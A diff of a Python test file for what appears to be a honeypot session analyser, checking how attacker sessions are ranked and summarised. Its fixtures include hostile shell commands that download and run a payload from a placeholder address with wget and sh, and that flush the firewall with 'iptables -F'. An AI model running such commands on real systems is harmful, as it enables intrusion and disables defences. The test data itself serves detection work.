@@ -228,6 +228,12 @@ async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_on
     ]  # fmt: skip
     assert [row["session_id"] for row in rows if row["new"]] == ["again", "first", "old", "fetched", "looked"]
     assert (await repo.sessions_worth_reading(400.0, limit=1))[0]["session_id"] == "again"
+    alike = [
+        (row["severity"], row["session_count"], row["story_line"]) for row in await repo.list_playbooks(400.0)
+    ]
+    assert alike[0] == ("high", 2, "fetch+run old-too.sh")
+    assert [severity for severity, _, _ in alike] == ["high", "high", "high", "medium", "low"]
+    assert len(await repo.list_playbooks(400.0, ["high"], limit=2)) == 2
     later = ended("before", ["wget http://203.0.113.9/z.sh", "bash z.sh", "w"], 5.0)
     await store(repo, later)
     await judge(worker, repo, later)
@@ -245,3 +251,27 @@ async def test_a_session_that_is_purged_takes_its_story_along(repo: BaseReposito
     gone = await repo.purge_older(5000.0)
     assert (gone["session_story"], gone["session_thing"]) == (1, 3)
     assert await rows_of(repo, "session_story", "session_id") == {}
+
+
+@pytest.mark.parametrize("order", [(0, 1, 2), (2, 0, 1), (1, 2, 0, 1, 0)])
+async def test_a_long_session_has_one_story_of_all_its_parts(
+    repo: BaseRepository, tmp_path: Path, order: tuple[int, ...]
+) -> None:
+    lines = ["wget http://203.0.113.9/sshd", "id", "iptables -F", "w", "sh sshd", "rm sshd", "exit"]
+    worker = await worker_of(repo, settings_of(tmp_path))
+    await judge(worker, repo, ended("whole", lines))
+    parts = []
+    for n, (first, last) in enumerate(((0, 3), (3, 5), (5, 7)), 1):
+        event = ended("whole", lines)
+        some = [
+            {**command, "id": str(command["id"]).replace("whole", "cut")}
+            for command in event.payload["commands"][first:last]
+        ]
+        payload = {**event.payload, "session_id": "cut", "commands": some, "part": n, "parts": 3}
+        parts.append(Event(event.topic, payload, "", f"part-{n}", event.ts))
+    news = [event for n in order for event in await judge(worker, repo, parts[n])]
+    stories = await repo.stories(["whole", "cut"])
+    same = [name for name in stories["whole"] if name != "session_id"]
+    assert {name: stories["cut"][name] for name in same} == {name: stories["whole"][name] for name in same}
+    assert stories["cut"]["reason"] == "fetched and ran sshd; switched off defences (firewall)"
+    assert news[-1].payload["story"] == stories["cut"]["story"]
